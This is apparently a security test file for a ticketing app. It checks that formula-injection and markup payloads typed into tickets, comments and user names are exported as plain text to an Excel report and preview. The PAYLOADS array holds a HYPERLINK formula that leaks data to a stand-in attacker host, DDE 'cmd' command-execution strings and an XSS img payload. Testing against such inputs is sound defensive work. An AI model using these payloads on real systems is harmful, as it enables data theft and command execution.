/**
 * Formula injection through the report (ASVS V1.2.10): text that people type into tickets,
 * comments, names and forward causes reaches the workbook and the in-app viewer as text, never as
 * a formula a spreadsheet program would evaluate, and markup stays characters.
 */
import ExcelJS from 'exceljs';
import { beforeAll, expect, it } from 'vitest';
import { describeWithApp } from '../harness.ts';
import { signedInAs } from '../factories.ts';
import { buildGroup, ticketBody } from '../ticket-factories.ts';
import { reportBody } from './access-requests.ts';

const PAYLOADS = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '<img src=x onerror=alert(1)>',
];

describeWithApp('formula injection through reports', (ctx) => {
  let texts: string[] = [];
  let previewText = '';

  beforeAll(async () => {
    const cc = await signedInAs(ctx.app, ctx.db, { userType: 'cc', name: '=HYPERLINK("http://attacker.example","staff")' });
    const customer = await signedInAs(ctx.app, ctx.db, { userType: 'customer', name: '@SUM(1+1)' });
    const group = await buildGroup(ctx.db, { name: '=1+2', subgroups: ['+3+4'] });
    for (const payload of PAYLOADS) {
      const issued = await ctx.app.inject({
        method: 'POST',
        url: '/api/v1/tickets/issue-ticket',
        headers: customer.headers,
        payload: ticketBody(group, { title: payload, description: payload }),
      });
      const ticketId = issued.json<{ data: { ticket_id: number } }>().data.ticket_id;
      await ctx.app.inject({
        method: 'POST',
        url: '/api/v1/tickets/add-comment',
        headers: cc.headers,
        payload: { ticket_id: ticketId, message: payload, is_internal: true },
      });
      await ctx.app.inject({
        method: 'POST',
        url: '/api/v1/tickets/forward-ticket',
        headers: cc.headers,
        payload: { ticket_id: ticketId, previously_issued_to: 'cc', newly_issued_to: 'iptsp', forward_cause: payload },
      });
    }
    const report = await ctx.app.inject({
      method: 'POST',
      url: '/api/v1/tickets/report',
      headers: cc.headers,
      payload: reportBody(),
    });
    expect(report.statusCode, report.body).toBe(200);
    const link = report.json<{ public_url: string }>().public_url;
    const file = await ctx.app.inject({ method: 'GET', url: link });
    expect(file.headers['content-disposition']).toMatch(/^attachment;/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(file.rawPayload as unknown as ArrayBuffer);

    const formulas: string[] = [];
    texts = [];
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula || cell.formula !== undefined)
            formulas.push(`${sheet.name}!${cell.address}`);
          texts.push(cell.text);
        }),
      ),
    );
    expect(formulas).toEqual([]);
    const preview = await ctx.app.inject({
      method: 'GET',
      url: `/api/v1/tickets/report/preview?public_url=${encodeURIComponent(link)}`,
      headers: cc.headers,
    });
    expect(preview.statusCode).toBe(200);
    previewText = preview.body;
  });

  it('writes every formula-like value as text, exactly as typed', () => {
    for (const payload of [...PAYLOADS, '=1+2', '+3+4', '@SUM(1+1)']) {
      expect(
        texts.some((text) => text.includes(payload)),
        payload,
      ).toBe(true);
    }
  });

  it('hands the viewer the same values as plain strings', () => {
    for (const payload of PAYLOADS) expect(previewText, payload).toContain(JSON.stringify(payload).slice(1, -1));
  });
});
